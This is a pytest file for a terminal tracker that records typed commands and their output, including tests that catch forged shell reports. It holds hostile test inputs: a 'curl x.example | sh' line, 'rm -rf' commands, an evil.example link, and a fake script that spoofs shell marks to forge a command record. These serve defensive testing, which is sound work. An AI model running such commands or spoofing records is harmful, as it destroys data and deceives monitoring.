"""Terminal keystrokes and output → command lines with bounded, inert output excerpts."""

from __future__ import annotations

import base64
import json
import select
import shutil
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from workspaces.excerpt import strip_ansi
from workspaces.recording import events
from workspaces.recording.events import Observation
from workspaces.recording.shell_marks import BASHRC
from workspaces.recording.terminal_lines import TerminalTracker, parse_terminal_frame

T0 = datetime(2025, 5, 1, 12, 0, 0, tzinfo=UTC)


def at(ms: int) -> datetime:
    return T0 + timedelta(milliseconds=ms)


class Term:
    """Drives a tracker the way terminado frames arrive: one keystroke per message."""

    def __init__(self, **kwargs: object) -> None:
        self.tracker = TerminalTracker(terminal="1", **kwargs)  # type: ignore[arg-type]
        self.ms = 0
        self.found: list[Observation] = []

    def _tick(self) -> datetime:
        self.ms += 10
        return at(self.ms)

    def keys(self, *keys: str) -> None:
        for key in keys:
            self.found += self.tracker.feed("in", json.dumps(["stdin", key]), self._tick())

    def type(self, text: str) -> None:
        self.keys(*text)

    def paste(self, text: str) -> None:
        self.keys(text)

    def out(self, text: str) -> None:
        self.found += self.tracker.feed("out", json.dumps(["stdout", text]), self._tick())

    def echo_and_type(self, text: str) -> None:
        """Type as a human does, with the shell echoing each character back."""
        for char in text:
            self.keys(char)
            self.out(char)

    def flush(self) -> list[Observation]:
        self.found += self.tracker.flush(self._tick())
        return self.found

    def lines(self) -> list[str]:
        return [o.payload["line"] for o in self.flush() if o.kind == events.TERMINAL_COMMAND]


def test_a_typed_command_and_its_output() -> None:
    term = Term()
    term.found += term.tracker.feed("in", json.dumps(["setup", {}]), at(0))
    term.found += term.tracker.feed("in", json.dumps(["set_size", 24, 80, 600, 800]), at(0))
    term.out("\x1b]0;candidate@ws: ~\x07candidate@ws:~$ ")
    term.echo_and_type("ls -la")
    term.keys("\r")
    term.out("\r\n\x1b[01;34mdata\x1b[0m\r\ntrain.py\r\n")
    term.out("candidate@ws:~$ ")
    assert term.found == []  # emitted when the next command starts, or on flush
    term.echo_and_type("pwd")
    term.keys("\r")
    [ls] = term.found
    assert ls.kind == events.TERMINAL_COMMAND
    assert ls.payload["line"] == "ls -la"
    assert ls.payload["output"] == "data\ntrain.py\ncandidate@ws:~$ "
    assert ls.payload["source"] == "keys"
    assert ls.payload["terminal"] == "1"
    assert ls.at > at(0) and "entered_at" in ls.payload
    assert term.lines() == ["ls -la", "pwd"]


@pytest.mark.parametrize(("keys", "line"), [
    (["l", "s", "x", "\x7f", " ", "-", "l"], "ls -l"),
    (["a", "b", "\x08", "\x08", "c", "d"], "cd"),
    (["r", "m", " ", "-", "r", "f", "\x15", "p", "w", "d"], "pwd"),
    (["e", "h", "o", "\x1b[D", "\x1b[D", "c"], "echo"),
    (["c", "a", "t", " ", "x", "\x1b[H", "#", "\x1b[F", "y"], "#cat xy"),
    (["g", "i", "t", " ", "l", "o", "g", "\x17", "s", "t", "a", "t", "u", "s"], "git status"),
    (["a", "b", "c", "\x1b[D", "\x1b[D", "\x1b[3~"], "ac"),
    (["a", "b", "c", "\x01", "\x0b", "x"], "x"),
    (["p", "y", "\x1b[1;5D", "#", "\x1b[I"], "#py"),
])
def test_line_editing_keys(keys: list[str], line: str) -> None:
    term = Term()
    term.keys(*keys, "\r")
    assert term.lines() == [line]


def test_ctrl_c_discards_the_line_and_marks_the_running_command() -> None:
    term = Term()
    term.type("rm -rf /tmp/x")
    term.keys("\x03")
    term.type("python train.py")
    term.keys("\r")
    term.out("python train.py\r\nepoch 1\r\n")
    term.keys("\x03")
    term.out("^C\r\nKeyboardInterrupt\r\n$ ")
    [run] = term.flush()
    assert run.payload["line"] == "python train.py"
    assert run.payload["interrupted"] is True
    assert "KeyboardInterrupt" in run.payload["output"]


def test_a_paste_of_several_lines_is_several_commands() -> None:
    term = Term()
    term.paste("cd data\recho one\r\nwc -l *.csv\r")
    assert term.lines() == ["cd data", "echo one", "wc -l *.csv"]


def test_bracketed_paste_keeps_newlines_inside_one_command() -> None:
    term = Term()
    term.paste("\x1b[200~for f in *.csv\rdo wc -l $f\rdone\x1b[201~")
    term.keys("\r")
    assert term.lines() == ["for f in *.csv\ndo wc -l $f\ndone"]


def test_history_recall_takes_the_line_from_the_echo() -> None:
    term = Term()
    term.out("$ ")
    term.keys("\x1b[A")
    term.out("python -m pytest -q")  # readline draws the recalled line
    term.keys("\r")
    term.out("\r\n3 passed\r\n$ ")
    term.echo_and_type("l")
    term.keys("\t")
    term.out("s -la")  # completion
    term.keys("\r")
    term.out("\r\n")
    [first, second] = term.flush()
    assert first.payload["line"] == "python -m pytest -q"
    assert first.payload["source"] == "echo" and first.payload["output"] == "3 passed\n$ "
    assert second.payload["line"] == "ls -la"


def test_output_is_stripped_of_escapes_and_bounded() -> None:
    term = Term(output_chars=300)
    term.type("yes")
    term.keys("\r")
    term.out("yes\r\n")
    term.out("\x1b]8;;http://evil.example\x07link\x1b]8;;\x07 "
             "\x1b[1;31mred\x1b[0m\x1bP1$r\x1b\\\r\n")
    for _ in range(500):
        term.out("y\r\n" * 1000)
    term.out("\x1b[?2004h$ ")
    [run] = term.flush()
    output = run.payload["output"]
    assert output.startswith("link red\ny\ny\n")
    assert "\x1b" not in output and "evil" not in output
    assert "…[truncated" in output and len(output) < 400
    assert output.endswith("y\n$ ")
    assert run.payload["output_chars"] > 1_000_000


def test_progress_bars_keep_their_last_state() -> None:
    term = Term()
    term.type("python fit.py")
    term.keys("\r")
    term.out("\r\n")
    for pct in range(0, 101, 10):
        term.out(f"\rtraining: {pct:3d}%")
    term.out("\r\ndone\r\n")
    [run] = term.flush()
    assert run.payload["output"] == "training: 100%\ndone\n"


def prompt(number: int | None, line: str = "") -> str:
    """What /etc/pairlab/bashrc prints before a prompt (``shell_marks``), then the prompt."""
    entry = f"  {number}  {line}" if number is not None else ""
    return f"\x1b]133;A\x07\x1b]6973;{base64.b64encode(entry.encode()).decode()}\x07$ "


@pytest.mark.parametrize("marks", [False, True])
def test_full_screen_programs_are_not_read_as_commands(marks: bool) -> None:
    """Keys typed in vim are not commands; with shell integration the shell's reports agree."""
    term = Term()
    if marks:
        term.out(prompt(7, "cd data"))
    term.type("vim train.py")
    term.keys("\r")
    term.out("vim train.py\r\n\x1b[?1049h\x1b[H\x1b[2J~\r\n~\r\n")
    term.type("ihello")
    term.keys("\x1b")
    term.type(":wq")
    term.keys("\r")
    term.out("\x1b[?1049l" + (prompt(8, "vim train.py") if marks else "$ "))
    term.type("ls")
    term.keys("\r")
    if marks:
        term.out("ls\r\ntrain.py\r\n" + prompt(9, "ls"))
    found = term.flush()
    assert [o.payload["line"] for o in found] == ["vim train.py", "ls"]
    assert found[0].payload["full_screen"] is True
    assert "~" not in found[0].payload["output"]
    assert all(o.payload["source"] == "keys" for o in found)
    assert [o.payload.get("unverified", False) for o in found] == [not marks, not marks]


def test_a_printed_alternate_screen_does_not_stop_the_record() -> None:
    """``printf '\\e[?1049h'`` then commands: the prompt mark ends full-screen mode."""
    term = Term()
    term.out(prompt(1, "true"))
    term.echo_and_type("printf '\\e[?1049h'")
    term.keys("\r")
    term.out("\r\n\x1b[?1049h" + prompt(2, "printf '\\e[?1049h'"))
    term.echo_and_type("echo secret")
    term.keys("\r")
    term.out("\r\nsecret\r\n" + prompt(3, "echo secret"))
    found = term.flush()
    assert [o.payload["line"] for o in found] == ["printf '\\e[?1049h'", "echo secret"]
    assert found[1].payload["output"].startswith("secret\n")
    assert "unverified" not in found[1].payload and "keys_differ" not in found[1].payload


def test_a_line_the_shell_ran_while_the_keys_looked_full_screen() -> None:
    """The alternate screen switched on inside the prompt itself: keys are not read as a line,
    but the shell's report of what it ran becomes the command."""
    term = Term()
    term.out(prompt(4, "ls") + "\x1b[?1049h")
    term.echo_and_type("echo secret")
    term.keys("\r")
    term.out("\r\nsecret\r\n" + prompt(5, "echo secret") + "\x1b[?1049h")
    [cmd] = term.flush()
    assert cmd.payload["line"] == "echo secret"
    assert cmd.payload["source"] == "shell" and cmd.payload["keys_missing"] is True


def test_lines_typed_ahead_into_a_printed_alternate_screen() -> None:
    """Keys typed while the tracker is in full-screen mode, then the next line typed ahead:
    the shell's reports put each line in its place."""
    term = Term()
    term.out(prompt(1, "ls"))
    term.type("printf '\\e[?1049h'")
    term.keys("\r")
    term.out("\r\n\x1b[?1049h")
    term.type("echo secret")  # typed before the prompt came back: read as full-screen keys
    term.keys("\r")
    term.out("echo secret\r\n" + prompt(2, "printf '\\e[?1049h'") + "$ echo secret\r\n")
    term.type("wc -l x")
    term.keys("\r")
    term.out("secret\r\nwc -l x\r\n" + prompt(3, "echo secret") + "$ wc -l x\r\n1 x\r\n"
             + prompt(4, "wc -l x"))
    found = term.flush()
    assert [o.payload["line"] for o in found] == ["printf '\\e[?1049h'", "echo secret",
                                                  "wc -l x"]
    assert found[1].payload["keys_missing"] is True
    assert not any({"unverified", "keys_differ"} & set(o.payload) for o in found)


def test_a_line_typed_ahead_across_the_switch_to_the_alternate_screen() -> None:
    """The order a CI run's journey saw (its terminal cast): the first keys of the next line
    came before the printed alternate screen, the rest after it, all before the prompt. The
    line was lost: the switch dropped "ec", so "ho after-trick" matched no shell report, and
    the keys came before the previous report, so the shell's line was not taken either."""
    term = Term()
    term.out(prompt(None) + "\x1b[?2004h")
    term.echo_and_type("printf '\\e[?1049h")
    term.keys("'", "\r", "e")  # typed ahead while the shell was still echoing
    term.out("h")
    term.out("'")
    term.keys("c")
    term.out("\r\n\x1b[?2004l\r\x1b[?1049h")
    term.type("ho after-trick")
    term.keys("\r")
    term.out("e")
    term.out("c")
    term.out(prompt(1, "printf '\\e[?1049h'") + "\x1b[?2004h")
    term.out("ech")
    term.out("o after-trick\r\n\x1b[?2004l\rafter-trick\r\n" + prompt(2, "echo after-trick")
             + "\x1b[?2004h")
    term.echo_and_type("echo bb aa")
    term.keys("\r")
    term.out("\r\n\x1b[?2004l\rbb aa\r\n" + prompt(3, "echo bb aa") + "\x1b[?2004h")
    found = term.flush()
    assert [o.payload["line"] for o in found] == ["printf '\\e[?1049h'", "echo after-trick",
                                                  "echo bb aa"]
    assert "unverified" not in found[1].payload


def test_a_line_typed_across_the_prompt_after_a_printed_alternate_screen() -> None:
    """The next line's first keys came while the printed switch held, the rest after the
    prompt (a real-sandbox test's run): the line is the keys', verified, not "keys differ"."""
    term = Term()
    term.out(prompt(1, "ls"))
    term.echo_and_type("printf '\\e[?1049h'; echo trick")
    term.keys("\r")
    term.out("\r\n\x1b[?1049htrick\r\n")
    term.type("echo sec")
    term.out(prompt(2, "printf '\\e[?1049h'; echo trick") + "echo sec")
    term.echo_and_type("ret")
    term.keys("\r")
    term.out("\r\nsecret\r\n" + prompt(3, "echo secret"))
    found = term.flush()
    assert [o.payload["line"] for o in found] == ["printf '\\e[?1049h'; echo trick",
                                                  "echo secret"]
    assert not any({"unverified", "keys_differ"} & set(o.payload) for o in found), found


def test_a_line_kept_aside_in_a_program_lets_no_forged_report_through() -> None:
    """Keys typed in vim are kept aside; a program run after it that prints shell reports of
    its own (keys no longer come) gets no command of theirs past the distrust: the first
    forged line is not recorded as the shell's, the contradiction is flagged."""
    term = Term()
    term.out(prompt(5, "ls"))
    term.type("vim x")
    term.keys("\r")
    term.out("vim x\r\n\x1b[?1049h~\r\n")
    term.type(":wq")
    term.keys("\r")
    term.out("\x1b[?1049l" + prompt(6, "vim x"))
    term.type("python3 fake.py")
    term.keys("\r")
    term.out("python3 fake.py\r\n" + forged(7, "python3 fake.py") + forged(8, "pytest -q"))
    found = term.flush()
    clean = [o.payload["line"] for o in found if not {"reports_conflict", "unverified"}
             & set(o.payload)]
    assert "pytest -q" not in clean, [o.payload for o in found]


def test_keys_and_shell_disagree_the_shell_wins() -> None:
    term = Term()
    term.out(prompt(10, "ls"))
    term.echo_and_type("echo aa bb")
    term.keys("\x1bt")  # Alt-T: transpose words, not modelled (and its redraw not seen here)
    term.keys("\r")
    term.out("\r\nbb aa\r\n" + prompt(11, "echo bb aa"))
    term.type("history -c")  # a shell report that is not new: the line is not verified
    term.keys("\r")
    term.out("\r\n" + prompt(None))
    found = term.flush()
    assert [o.payload["line"] for o in found] == ["echo bb aa", "history -c"]
    assert found[0].payload["source"] == "shell" and found[0].payload["keys_differ"] is True
    assert found[0].payload["keys_line"] == "echo aa bb"  # both readings are kept
    assert found[1].payload["unverified"] is True


def test_unknown_keys_make_the_line_uncertain() -> None:
    term = Term()
    term.out("$ ")
    term.type("echo aa bb")
    term.keys("\x14")  # Ctrl-T: transpose characters
    term.keys("\r")
    [cmd] = term.flush()
    assert cmd.payload["approximate"] is True and cmd.payload["source"] == "keys"


def test_poll_emits_a_quiet_command_and_reports_late_output() -> None:
    tracker = TerminalTracker(quiet_s=2.0)
    tracker.feed("in", json.dumps(["stdin", "make train\r"]), at(0))
    tracker.feed("out", json.dumps(["stdout", "make train\r\nstarting\r\n"]), at(100))
    assert tracker.poll(at(1500)) == []
    [cmd] = tracker.poll(at(2200))
    assert cmd.payload["line"] == "make train" and cmd.payload["output"] == "starting\n"
    assert tracker.poll(at(9000)) == []
    tracker.feed("out", json.dumps(["stdout", "epoch 1 done\r\n"]), at(10_000))
    [late] = tracker.feed("in", json.dumps(["stdin", "ls\r"]), at(11_000))
    assert late.kind == events.TERMINAL_OUTPUT
    assert late.payload == {"terminal": "", "line": "make train", "output": "epoch 1 done\n",
                            "output_chars": 14}


def test_bad_frames_are_ignored() -> None:
    tracker = TerminalTracker()
    for frame in ("", "{", "{}", "[]", "[1]", '["stdin"]', '["stdin", 5]', b"\xff"):
        assert tracker.feed("in", frame, at(0)) == []
    assert parse_terminal_frame(b'["stdout", "x"]') == ("stdout", "x")


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
def test_a_real_bash_with_history_and_tab_completion(tmp_path: Path) -> None:
    """Keys into a real interactive bash on a pty; its real output through the tracker."""
    ptyprocess = pytest.importorskip("ptyprocess")
    (tmp_path / "measurements_2024.csv").write_text("a,b\n1,2\n")
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "TERM": "xterm-256color",
           "PS1": "$ ", "INPUTRC": "/dev/null", "HISTFILE": str(tmp_path / ".hist")}
    proc = ptyprocess.PtyProcessUnicode.spawn(["bash", "--norc", "--noprofile", "-i"],
                                              cwd=str(tmp_path), env=env, dimensions=(24, 120))
    tracker = TerminalTracker()
    found: list[Observation] = []

    def drain(until: str) -> str:
        seen = ""
        deadline = time.monotonic() + 60  # a loaded host (another test run beside) is slow
        while until not in strip_ansi(seen):
            assert time.monotonic() < deadline, f"bash never printed {until!r}: {seen!r}"
            ready, _, _ = select.select([proc.fd], [], [], 0.1)
            if ready:
                chunk = proc.read(4096)
                seen += chunk
                found.extend(tracker.feed("out", json.dumps(["stdout", chunk])))
        return seen

    def key(text: str) -> None:
        found.extend(tracker.feed("in", json.dumps(["stdin", text])))
        proc.write(text)

    try:
        drain("$ ")
        for char in "echo hello-1":
            key(char)
        key("\r")
        drain("hello-1\r\n$ ")
        key("\x1b[A")  # recall, then run again
        drain("echo hello-1")
        key("\r")
        drain("hello-1\r\n$ ")
        for char in "wc -l measu":
            key(char)
        key("\t")
        drain("measurements_2024.csv ")
        key("\r")
        drain("2 measurements_2024.csv\r\n$ ")
        found.extend(tracker.flush())
    finally:
        proc.terminate(force=True)
    lines = [(o.payload["line"], o.payload["source"]) for o in found]
    assert lines == [("echo hello-1", "keys"), ("echo hello-1", "echo"),
                     ("wc -l measurements_2024.csv", "echo")]
    assert found[0].payload["output"].startswith("hello-1\n")
    assert found[2].payload["output"].startswith("2 measurements_2024.csv\n")


class RealBash:
    """An interactive bash on a pty, its keys and output through a tracker as terminado frames."""

    def __init__(self, tmp_path: Path, *, rcfile: bool) -> None:
        ptyprocess = pytest.importorskip("ptyprocess")
        env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "TERM": "xterm-256color",
               "PS1": "$ ", "INPUTRC": "/dev/null", "HISTFILE": str(tmp_path / ".hist")}
        if rcfile:
            (tmp_path / "bashrc").write_text(BASHRC + "PS1='$ '\n")
            argv = ["bash", "--rcfile", str(tmp_path / "bashrc"), "-i"]
        else:
            argv = ["bash", "--norc", "--noprofile", "-i"]
        self.proc = ptyprocess.PtyProcessUnicode.spawn(argv, cwd=str(tmp_path), env=env,
                                                       dimensions=(24, 120))
        self.tracker = TerminalTracker()
        self.found: list[Observation] = []
        self.seen = ""

    def drain(self, until: str) -> None:
        deadline = time.monotonic() + 60  # a loaded host (another test run beside) is slow
        start = len(self.seen)
        while until not in strip_ansi(self.seen[start:]):
            assert time.monotonic() < deadline, f"bash never printed {until!r}: {self.seen!r}"
            ready, _, _ = select.select([self.proc.fd], [], [], 0.1)
            if ready:
                chunk = self.proc.read(4096)
                self.seen += chunk
                self.found.extend(self.tracker.feed("out", json.dumps(["stdout", chunk])))

    def key(self, text: str) -> None:
        self.found.extend(self.tracker.feed("in", json.dumps(["stdin", text])))
        self.proc.write(text)

    def type(self, text: str) -> None:
        for char in text:
            self.key(char)

    def commands(self) -> list[Observation]:
        self.found.extend(self.tracker.flush())
        self.proc.terminate(force=True)
        return [o for o in self.found if o.kind == events.TERMINAL_COMMAND]


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
@pytest.mark.parametrize("rcfile", [False, True])
def test_alt_t_in_a_real_bash_records_the_line_bash_ran(tmp_path: Path, rcfile: bool) -> None:
    """``echo aa bb``, Alt-T (readline's transpose-words), Enter: bash runs ``echo bb aa``."""
    bash = RealBash(tmp_path, rcfile=rcfile)
    bash.drain("$ ")
    bash.type("echo aa bb")
    bash.drain("echo aa bb")
    bash.key("\x1bt")
    bash.drain("bb aa")
    bash.key("\r")
    bash.drain("bb aa\r\n$ ")
    [cmd] = bash.commands()
    assert cmd.payload["line"] == "echo bb aa"
    assert cmd.payload["source"] in ("echo", "shell")
    assert "approximate" not in cmd.payload
    # without the shell's report the line is the echo's reading, and says so
    assert cmd.payload.get("unverified", False) is (not rcfile)


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
def test_a_printed_alternate_screen_in_a_real_bash(tmp_path: Path) -> None:
    """The trick of the issue: print the alternate-screen switch, then run commands."""
    bash = RealBash(tmp_path, rcfile=True)
    bash.drain("$ ")
    bash.type("printf '\\e[?1049h'")
    bash.key("\r")
    bash.drain("$ ")
    bash.type("echo sec''ret")
    bash.key("\r")
    bash.drain("secret\r\n$ ")
    bash.type("vim-is-not-here 2>/dev/null; echo done-$?")
    bash.key("\r")
    bash.drain("done-127\r\n$ ")
    commands = bash.commands()
    assert [c.payload["line"] for c in commands] == [
        "printf '\\e[?1049h'", "echo sec''ret", "vim-is-not-here 2>/dev/null; echo done-$?"]
    assert commands[1].payload["output"].startswith("secret\n")
    assert not any("unverified" in c.payload or "keys_differ" in c.payload for c in commands)


def test_lines_typed_ahead_are_matched_with_the_shell_reports_in_order() -> None:
    """Keys for the next line arrive before the shell's prompt and report of the previous."""
    term = Term()
    term.out(prompt(2, "ls"))
    term.type("sleep 1; echo one")
    term.keys("\r")
    term.out("sleep 1; echo one\r\n")
    term.type("echo two")  # typed ahead; the tty echoes it
    term.keys("\r")
    term.out("echo two\r\none\r\n")
    assert term.found == []  # the first is not emitted before the shell reported it
    term.out(prompt(3, "sleep 1; echo one") + "echo two\r\ntwo\r\n" + prompt(4, "echo two"))
    found = term.flush()
    assert [o.payload["line"] for o in found] == ["sleep 1; echo one", "echo two"]
    assert not any({"unverified", "keys_differ"} & set(o.payload) for o in found)
    late = Term()
    late.out(prompt(2, "ls"))
    late.type("sleep 100")
    late.keys("\r")
    late.type("ls")
    late.keys("\r")  # the shell never reports (it is still sleeping)
    assert late.tracker.poll(at(late.ms + 5000)) == []
    overdue, current = late.tracker.poll(at(late.ms + 10_000))
    assert overdue.payload["line"] == "sleep 100" and overdue.payload["unverified"] is True
    assert current.payload["line"] == "ls"


def test_a_reconnect_replay_of_old_prompts_makes_no_commands() -> None:
    """terminado replays the terminal's recent output to a new connection, old shell reports
    included: they are where the history stood, not commands of this connection."""
    term = Term()
    term.out("$ ls\r\na\r\n" + prompt(7, "ls") + "echo hi\r\nhi\r\n" + prompt(8, "echo hi"))
    term.echo_and_type("pwd")
    term.keys("\r")
    term.out("\r\n/workspace\r\n" + prompt(9, "pwd"))
    [cmd] = term.flush()
    assert cmd.payload["line"] == "pwd" and "unverified" not in cmd.payload


@pytest.mark.parametrize("cut", [1, 3, 9, 14, 30])
def test_a_shell_report_cut_between_two_frames(cut: int) -> None:
    term = Term()
    term.out(prompt(1, "ls"))
    term.echo_and_type("echo aa bb")
    term.keys("\x1bt")
    term.keys("\r")
    report = "\r\nbb aa\r\n" + prompt(2, "echo bb aa")
    start = report.index("\x1b]6973")
    term.out(report[:start + cut])
    term.out(report[start + cut:])
    [cmd] = term.flush()
    assert (cmd.payload["line"], cmd.payload["source"]) == ("echo bb aa", "shell")


def forged(number: int, entry: str) -> str:
    """What a program prints to pass for the shell's prompt and report."""
    return prompt(number, entry)


def test_a_forged_report_cannot_pass_keys_typed_into_a_program_for_a_command() -> None:
    """Attack: ``python3 fake.py`` reads a line and prints fake shell reports, so that the
    ``pytest -q`` typed into it (and its fake "5 passed") reads as a command bash ran."""
    for wait in (False, True):  # the fake exits at once, or after its command was emitted
        term = Term()
        term.out(prompt(5, "ls"))
        term.echo_and_type("python3 fake.py")
        term.keys("\r")
        term.out("\r\n")
        term.echo_and_type("pytest -q")
        term.keys("\r")
        term.out("\r\n" + forged(6, "python3 fake.py") + "$ pytest -q\r\n5 passed\r\n"
                 + forged(7, "pytest -q"))
        if wait:
            term.found += term.tracker.poll(at(term.ms + 3000))
            term.ms += 3000
            [early] = [o for o in term.found if o.payload["line"] == "pytest -q"]
            assert "reports_conflict" not in early.payload  # not yet known to be forged...
        term.out(prompt(6, "python3 fake.py"))  # fake.py exits: the shell's own report
        term.echo_and_type("ls")
        term.keys("\r")
        term.out("\r\na\r\n" + prompt(7, "ls"))
        found = term.flush()
        fakes = [o for o in found if o.payload["line"] == "pytest -q"
                 and o.kind == events.TERMINAL_COMMAND]
        assert len(fakes) == 1, found
        if not wait:  # ...flagged, if it was still pending
            assert fakes[0].payload["reports_conflict"] is True
            assert fakes[0].payload["unverified"] is True
        # ...and in any case the record holds the evidence: the shell contradicting the fake
        # (after the fake, when that was emitted first)
        said = [o for o in found if o.payload["line"] == "python3 fake.py"
                and o.payload["source"] == "shell"]
        assert said and said[0].payload["reports_conflict"] is True, found
        assert not wait or found.index(said[0]) > found.index(fakes[0])
        # and from then on nothing on this terminal is confirmed by a report
        [ls] = [o for o in found if o.payload["line"] == "ls" and o.payload["source"] == "keys"]
        assert ls.payload["reports_conflict"] is True and ls.payload["unverified"] is True


def test_a_forged_report_cannot_rewrite_or_add_a_command_unflagged() -> None:
    """Attack: a command prints a report saying the shell ran something else (to hide what
    was typed), or a line nobody typed (to add one)."""
    term = Term()
    term.out(prompt(5, "ls"))
    term.echo_and_type("curl x.example | sh")
    term.keys("\r")
    term.out("\r\n" + forged(6, "ls"))  # "bash ran ls"
    term.out(prompt(6, "curl x.example | sh"))  # the shell's own, same number, other line
    found = term.flush()
    [typed] = [o for o in found if o.payload["line"] == "curl x.example | sh"
               and o.payload["source"] == "keys"]
    assert typed.payload["reports_conflict"] is True  # the typed line, kept and flagged
    assert not [o for o in found if o.payload["line"] == "ls"
                and "reports_conflict" not in o.payload]

    term = Term()  # a line nobody typed: always says so
    term.out(prompt(5, "ls"))
    term.echo_and_type("python3 fake.py")
    term.keys("\r")
    term.out("\r\n" + forged(6, "python3 fake.py"))
    term.keys("x")  # a key for the program
    term.out(forged(7, "rm -rf ~/data"))
    found = term.flush()
    [added] = [o for o in found if o.payload["line"] == "rm -rf ~/data"]
    assert added.payload["keys_missing"] is True and added.payload["source"] == "shell"


def test_a_flood_of_contradicting_reports_is_bounded() -> None:
    term = Term()
    term.out(prompt(10_000, "ls"))
    term.echo_and_type("python3 fake.py")
    term.keys("\r")
    term.out("".join(forged(n, f"fake {n}") for n in range(9_999, 7_999, -1)))
    found = term.flush()
    assert len(found) <= 12 and all(o.payload["reports_conflict"] for o in found)


def test_honest_reports_raise_no_conflict() -> None:
    term = Term()
    term.out(prompt(5, "ls") + prompt(5, "ls"))  # a replay, then the same prompt again
    for number, line in ((6, "echo a"), (7, "echo b")):
        term.echo_and_type(line)
        term.keys("\r")
        term.out("\r\nx\r\n" + prompt(number, line))
    term.keys("\r")  # an empty line: the same report again
    term.out("\r\n" + prompt(7, "echo b"))
    found = term.flush()
    assert [o.payload["line"] for o in found] == ["echo a", "echo b"]
    assert not any({"reports_conflict", "unverified"} & set(o.payload) for o in found)


FAKE = r'''import base64, sys
def report(n, line):
    entry = base64.b64encode(f"{n:5d}  {line}".encode()).decode()
    return f"\x1b]133;A\x07\x1b]6973;{entry}\x07$ "
sys.stdout.write("answer> ")  # typed before it reads, a line can be lost in the tty's switch
sys.stdout.flush()
typed = sys.stdin.readline().strip()
sys.stdout.write(report(2, "python3 fake.py") + typed + "\r\n5 passed\r\n" + report(3, typed))
sys.stdout.flush()
'''


@pytest.mark.skipif(shutil.which("bash") is None or shutil.which("python3") is None,
                    reason="needs bash and python3")
def test_forged_reports_in_a_real_bash_are_flagged(tmp_path: Path) -> None:
    """The attack end to end: a program prints the shell's marks for a line typed into it."""
    (tmp_path / "fake.py").write_text(FAKE)
    bash = RealBash(tmp_path, rcfile=True)
    bash.drain("$ ")
    bash.type("echo hi")
    bash.key("\r")
    bash.drain("hi\r\n")
    bash.drain("$ ")
    bash.type("python3 fake.py")
    bash.key("\r")
    bash.drain("python3 fake.py\r\n")
    bash.drain("answer> ")
    bash.type("pytest -q")
    bash.key("\r")
    bash.drain("5 passed")
    deadline = time.monotonic() + 60  # a loaded host (another test run beside) is slow
    while bash.seen.count("\x1b]6973;") < 5:  # bash's own report after the two fakes
        assert time.monotonic() < deadline, bash.seen
        ready, _, _ = select.select([bash.proc.fd], [], [], 0.1)
        if ready:
            chunk = bash.proc.read(4096)
            bash.seen += chunk
            bash.found.extend(bash.tracker.feed("out", json.dumps(["stdout", chunk])))
    bash.type("echo after")
    bash.key("\r")
    bash.drain("after\r\n")
    bash.drain("$ ")
    found = bash.commands()
    by_line = {o.payload["line"]: o.payload for o in found if o.payload["source"] == "keys"}
    assert "reports_conflict" not in by_line["echo hi"]
    assert by_line["pytest -q"]["reports_conflict"] is True, found
    assert by_line["pytest -q"]["unverified"] is True
    assert by_line["echo after"]["reports_conflict"] is True
    assert any(o.payload["source"] == "shell" and o.payload.get("reports_conflict")
               for o in found)
